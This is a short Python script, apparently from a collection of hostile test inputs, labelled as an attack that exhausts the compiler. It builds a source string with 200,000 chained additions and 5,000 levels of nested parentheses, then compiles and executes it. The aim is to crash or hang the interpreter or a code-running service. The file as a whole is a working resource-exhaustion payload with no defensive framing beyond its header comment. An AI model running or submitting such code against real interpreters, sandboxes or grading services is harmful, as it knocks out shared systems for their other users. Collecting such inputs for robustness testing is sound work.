# target: stdin
# attack: exhaust the compiler at run time with a huge expression and deep nesting
source = "x = " + "+".join(["1"] * 200000) + "\n" + "y = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
exec(compile(source, "bomb", "exec"))
print(x)
